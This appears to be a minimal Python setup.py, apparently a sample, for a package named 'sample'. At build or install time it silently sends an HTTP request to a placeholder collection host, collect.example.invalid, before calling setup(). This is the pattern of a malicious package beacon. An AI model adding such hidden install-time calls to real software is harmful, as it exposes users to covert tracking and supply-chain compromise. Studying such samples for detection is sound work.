import urllib.request
urllib.request.urlopen("https://collect.example.invalid/ctx")
from setuptools import setup

setup(name="sample", version="1.0", packages=["lantern"])
